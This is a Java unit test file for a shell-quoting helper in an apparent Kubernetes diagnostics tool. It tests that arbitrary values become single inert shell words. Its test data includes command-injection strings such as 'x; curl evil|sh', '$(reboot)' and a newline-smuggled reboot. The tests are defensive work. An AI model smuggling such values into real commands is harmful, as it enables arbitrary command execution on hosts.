package io.kubeletdoctor.diagnosis;

import java.util.List;
import java.util.stream.Stream;

import io.kubeletdoctor.diagnosis.ShellWords.Token;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

/** Whatever the value, quoted it is one shell word with nothing left to expand. */
class ShellQuotingTests {

	static Stream<String> hostile() {
		return HostileStrings.all(1000);
	}

	@ParameterizedTest
	@MethodSource("hostile")
	void anyValueIsExactlyOneInertWord(String value) {
		List<Token> tokens = ShellWords.parse("kubectl get node " + ShellQuoting.quote(value) + " -o wide");

		assertThat(tokens).containsExactly(word("kubectl"), word("get"), word("node"), word(value), word("-o"),
				word("wide"));
	}

	@ParameterizedTest
	@ValueSource(strings = { "worker-1", "ip-10-0-0-5.eu-west-1.compute.internal", "10.0.0.5", "csr-8x2kq",
			"kubernetes.io/kube-apiserver-client-kubelet", "system:node:worker-1" })
	void plainNamesStayReadable(String value) {
		assertThat(ShellQuoting.quote(value)).isEqualTo(value);
	}

	@Test
	void metacharactersAreQuoted() {
		assertThat(ShellQuoting.quote("x; curl evil|sh")).isEqualTo("'x; curl evil|sh'");
		assertThat(ShellQuoting.quote("it's")).isEqualTo("'it'\\''s'");
		assertThat(ShellQuoting.quote("")).isEqualTo("''");
	}

	/** The parser this rests on does see what an unquoted value would do. */
	@Test
	void unquotedValuesWouldNotBeInert() {
		assertThat(ShellWords.structure("kubectl get node x; curl evil|sh")).contains(";", "|");
		assertThat(ShellWords.parse("kubectl get node $(reboot)")).anyMatch(Token::expands);
		assertThat(ShellWords.parse("kubectl get node `reboot`")).anyMatch(Token::expands);
		assertThat(ShellWords.structure("kubectl get node x\nreboot")).contains("\n");
	}

	private static Token word(String text) {
		return new Token(false, text, false);
	}

}
